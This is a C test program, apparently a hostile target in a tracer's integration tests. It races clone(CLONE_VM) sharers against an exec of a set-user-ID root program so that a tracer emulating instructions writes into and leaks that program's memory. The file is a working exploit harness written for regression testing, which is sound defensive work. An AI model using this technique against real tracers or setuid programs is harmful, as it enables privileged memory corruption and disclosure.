/* A hostile target (tests/integration/test_hostile.py, issue 32). Run as an unprivileged
 * user, it waits until a tracer holds it, starts SHARERS processes that share its memory
 * (clone(CLONE_VM) without CLONE_THREAD: not threads, so an exec of the leader leaves them
 * running in the old memory), and then execs PROGRAM, a set-user-ID root program.
 *
 * Each sharer calls two probe functions again and again with its stack pointer aimed at
 * ADDRESS, an address of PROGRAM's data (a non-PIE program: the same in every run):
 *   probe_push: `push %rbp` with rbp = 0x4141414141414141, the slot at ADDRESS;
 *   probe_load: `mov 8(%rsp), %rax`, which reads the word at ADDRESS.
 * In the sharer's own memory ADDRESS is a page it mapped itself. A tracer that runs those
 * instructions for it (every-hit emulation) through the PID reaches the memory the PID has
 * now: after the exec, the set-user-ID program's. It then writes 0x4141... into it, and
 * hands its word to the sharer, which prints "leaked VALUE" when it is not its own.
 *
 * usage: execrace PROGRAM ADDRESS [SHARERS [SECONDS]]
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MINE 0x2222222222222222UL
#define PUSHED 0x4141414141414141UL

__attribute__((naked, noinline)) void probe_push(void) {
    __asm__ volatile("push %rbp\n\tpop %rbp\n\tret\n");
}

__attribute__((naked, noinline)) void probe_load(void) {
    __asm__ volatile("mov 8(%rsp), %rax\n\tret\n");
}

/* Call FN with the stack pointer at SP and rbp = VALUE; rax after. */
static unsigned long on_stack(unsigned long sp, void (*fn)(void), unsigned long value) {
    register unsigned long rdi __asm__("rdi") = sp;
    register void (*rsi)(void) __asm__("rsi") = fn;
    register unsigned long rdx __asm__("rdx") = value;
    unsigned long result;
    __asm__ volatile(
        "mov %%rsp, %%r12\n\t"
        "mov %%rbp, %%r13\n\t"
        "mov %%rdi, %%rsp\n\t"
        "mov %%rdx, %%rbp\n\t"
        "call *%%rsi\n\t"
        "mov %%r12, %%rsp\n\t"
        "mov %%r13, %%rbp\n\t"
        : "=a"(result), "+r"(rdi), "+r"(rsi), "+r"(rdx)
        :
        : "r12", "r13", "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
    return result;
}

static unsigned long aim;
static double seconds = 4.0;

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int sharer(void *unused) {
    (void)unused;
    double end = now() + seconds;
    char line[64];
    while (now() < end) {
        *(volatile unsigned long *)aim = MINE;
        on_stack(aim + 16, probe_push, PUSHED);  /* the call's return address at aim+8, the push's slot at aim */
        unsigned long seen = on_stack(aim, probe_load, 0);  /* [rsp+8] = aim */
        if (seen != MINE && seen != PUSHED) {
            int n = snprintf(line, sizeof line, "leaked %#lx\n", seen);
            syscall(SYS_write, 1, line, n);
        }
    }
    syscall(SYS_exit, 0);
    return 0;
}

static int traced(void) {
    char buffer[4096];
    FILE *f = fopen("/proc/self/status", "r");
    int tracer = 0;
    while (f && fgets(buffer, sizeof buffer, f))
        if (sscanf(buffer, "TracerPid: %d", &tracer) == 1)
            break;
    if (f)
        fclose(f);
    return tracer;
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: execrace PROGRAM ADDRESS [SHARERS [SECONDS]]\n");
        return 2;
    }
    aim = strtoul(argv[2], NULL, 16);
    int sharers = argc > 3 ? atoi(argv[3]) : 3;
    if (argc > 4)
        seconds = atof(argv[4]);
    unsigned long page = aim & ~4095UL;
    if (mmap((void *)page, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0)
            != (void *)page) {
        perror("mmap");
        return 1;
    }
    printf("ready pid=%d probe_push=%p probe_load=%p\n", getpid(), (void *)probe_push, (void *)probe_load);
    fflush(stdout);
    while (!traced())
        usleep(1000);
    usleep(300 * 1000);  /* the tracer's breakpoints go in */
    for (int i = 0; i < sharers; i++) {
        char *stack = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (clone(sharer, stack + (1 << 16), CLONE_VM | SIGCHLD, NULL) < 0) {
            perror("clone");
            return 1;
        }
    }
    printf("sharers %d\n", sharers);
    fflush(stdout);
    usleep(500 * 1000);  /* hits of every sharer */
    execv(argv[1], (char *[]){argv[1], NULL});
    perror("execv");
    return 1;
}
